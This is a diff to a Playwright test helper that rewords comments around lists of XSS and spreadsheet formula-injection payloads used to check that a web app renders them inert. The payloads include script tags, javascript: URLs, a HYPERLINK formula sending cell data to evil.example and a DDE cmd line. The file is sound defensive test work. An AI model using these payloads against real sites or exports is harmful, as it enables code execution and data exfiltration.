@@ -1,8 +1,8 @@
 import { expect, type Page } from '@playwright/test';
 
 /**
- * Texts that run something where they are taken for markup, an address, a template, a style or a
- * formula. Wherever one becomes an element, the element carries `data-hostile`.
+ * Texts that run code if they are interpreted as markup, URL, template, style or formula. An element
+ * made from one carries `data-hostile`.
  */
 export const SCRIPTS = [
   '<script data-hostile>alert(1)</script>',
@@ -20,7 +20,7 @@ export const SCRIPTS = [
   'javascript:alert(1)//https://evil.example',
 ] as const;
 
-/** What a spreadsheet would run; each cell of an export must begin otherwise. */
+/** Formulas that a spreadsheet would run; no cell of an export may begin as they do. */
 const FORMULAS = [
   '=HYPERLINK("https://evil.example?"&A1,"x")',
   "+cmd|' /C calc'!A1",
@@ -30,13 +30,13 @@ const FORMULAS = [
   '＝1+1',
 ] as const;
 
-/** The n-th text, of both kinds in turn. */
+/** The n-th text of both lists together. */
 export function hostileText(n: number): string {
   const all = [...SCRIPTS, ...FORMULAS];
   return all[n % all.length] ?? '';
 }
 
-/** Counts what a page asks of a person or loads from elsewhere. */
+/** Records dialogs, and requests to other origins. */
 export class ScriptWatch {
   readonly seen: string[] = [];
 
@@ -54,7 +54,7 @@ export class ScriptWatch {
   }
 }
 
-/** What of a text has become an element, if anything has. */
+/** Elements and event handlers that came from a text. */
 export function hostileElements(page: Page): Promise<string[]> {
   return page.evaluate(() => {
     const elements = document.querySelectorAll('[data-hostile], base, [href^="javascript:" i]');
@@ -65,12 +65,12 @@ export function hostileElements(page: Page): Promise<string[]> {
   });
 }
 
-/** Texts are texts, and none has become an element. */
+/** No text has become an element. */
 export async function expectOnlyText(page: Page, where: string): Promise<void> {
   expect(await hostileElements(page), where).toEqual([]);
 }
 
-/** No cell begins with what a spreadsheet runs; numbers are no formulas. */
+/** No cell begins as a formula does; numbers are allowed. */
 export function expectNoFormula(rows: string[][], where: string): void {
   expect(rows.length, where).toBeGreaterThan(1);
   for (const cell of rows.flat()) {
